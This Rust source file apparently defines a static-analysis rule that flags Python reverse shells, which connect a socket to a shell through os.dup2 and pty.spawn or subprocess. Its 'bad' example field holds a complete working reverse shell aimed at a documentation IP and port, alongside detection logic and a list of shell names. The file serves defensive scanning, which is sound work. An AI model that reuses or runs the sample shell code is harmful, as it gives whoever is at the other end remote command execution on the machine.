//! Shells that are handed to whoever is at the other end of a connection.

use super::{Answer, Find, Rule, look, say};
use crate::flow::{Argument, Call};
use crate::project::Module;
use crate::syntax::ast::{ExprId, ExprKind, Get, StmtId};
use crate::vocabulary::{Category, Confidence, Severity};

pub static RULE: Rule = Rule {
    id: "reverse-shell",
    title: "A shell is connected to the network",
    category: Category::Network,
    cwe: 506,
    severity: Severity::High,
    confidence: Confidence::High,
    why: "A socket that takes the place of a program's input and output gives whoever is at its other end a shell on this machine, \
          without a password. That is what intruders leave behind.",
    fix: "Take it out, and look for how it came in. For access from afar use SSH.",
    bad: r#"
import os
import pty
import socket

connection = socket.create_connection(("203.0.113.7", 4444))
os.dup2(connection.fileno(), 0)
os.dup2(connection.fileno(), 1)
pty.spawn("/bin/sh")
"#,
    good: r#"
import socket

connection = socket.create_connection(("203.0.113.7", 4444))
connection.sendall(b"hello")
connection.close()
"#,
    references: &[
        "https://cwe.mitre.org/data/definitions/506.html",
        "https://docs.python.org/3/library/os.html#os.dup2",
        "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
    ],
    also: &[
        "semgrep:lang/python-reverse-shell",
    ],
    find: &[
        Find::Call(&["os.dup2"], at_dup),
        Find::Call(
            &[
                "subprocess.Popen", "subprocess.call", "subprocess.run", "subprocess.check_call", "pty.spawn", "os.system", "os.execl",
                "os.execv", "os.execve", "os.execlp", "os.execvp",
            ],
            at_start,
        ),
    ],
};

/// `os.dup2(connection.fileno(), 0)` with a shell that is started in the same file.
fn at_dup(call: &Call<'_>) -> Answer {
    let (Some(from), Some(to)) = (call.argument(0, "fd"), call.argument(1, "fd2")) else { return Answer::NotMine };
    let world = call.world();
    if !matches!(world.int(to.value), Some(0..=2)) {
        return Answer::NotMine;
    }
    if !is_of_socket(from) {
        return Answer::safe("no connection takes the place of the program's input or output");
    }
    if starts_shell(world.module()) {
        wrong(call)
    } else {
        Answer::undecided("what runs with the connection as its input is not seen here")
    }
}

/// `subprocess.Popen(["/bin/sh"], stdin=connection)`, or a shell behind `os.dup2(connection.fileno(), 0)`
fn at_start(call: &Call<'_>) -> Answer {
    let world = call.world();
    let code = call.positional(0).or_else(|| call.named("args")).map_or("", |args| world.code(args.place));
    if !SHELLS.iter().any(|shell| code.contains(shell)) {
        return Answer::NotMine;
    }
    let is_connected = match call.named("stdin") {
        Some(input) => is_of_socket(input),
        None => takes_connection(world.module(), call.stmt),
    };
    if is_connected { wrong(call) } else { Answer::NotMine }
}

/// Whether the function around a statement has put a connection where the program's input is.
fn takes_connection(module: &Module, stmt: StmtId) -> bool {
    let ast = &module.ast;
    let within = ast[stmt].function;
    let of_socket = |expr: ExprId| {
        let made = look::only_value(module, expr)?;
        let ExprKind::Call { function, .. } = ast[made].kind else { return None };
        look::path(module, function).filter(|path| path.first().text() == "socket")
    };
    ast.exprs.iter().filter(|expr| ast[expr.stmt].function == within).any(|expr| {
        let ExprKind::Call { function, args } = expr.kind else { return false };
        let is_dup = look::path(module, function).is_some_and(|path| path.is("os.dup2"));
        let Some(from) = ast.list(args).first().filter(|_| is_dup) else { return false };
        let ExprKind::Call { function, .. } = ast[from.value].kind else { return false };
        matches!(ast[function].kind, ExprKind::Attribute { base, name } if name.sym.text() == "fileno" && of_socket(base).is_some())
    })
}

fn wrong(call: &Call<'_>) -> Answer {
    let shown = say::code(call.world(), call.place);
    Answer::wrong(format!(
        "`{shown}` connects a shell to the network: whoever is at the other end runs commands on this machine. Take it out."
    ))
}

const SHELLS: &[&str] = &["/sh\"", "/sh ", "/sh'", "bash", "/zsh", "cmd.exe", "powershell", "\"sh\"", "'sh'"];

fn is_of_socket(argument: &Argument) -> bool {
    let path = argument.value.path().or(argument.value.instance_of());
    path.is_some_and(|path| path.first().text() == "socket")
}

fn starts_shell(module: &Module) -> bool {
    let starts = ["spawn", "call", "run", "Popen", "system", "execl", "execv", "execve", "execlp", "execvp"];
    look::calls(module, &starts) && module.ast.exprs.iter().any(|expr| match expr.kind {
        ExprKind::Constant(_) => SHELLS.iter().any(|shell| module.file.slice(expr.span).contains(shell)),
        _ => false,
    })
}
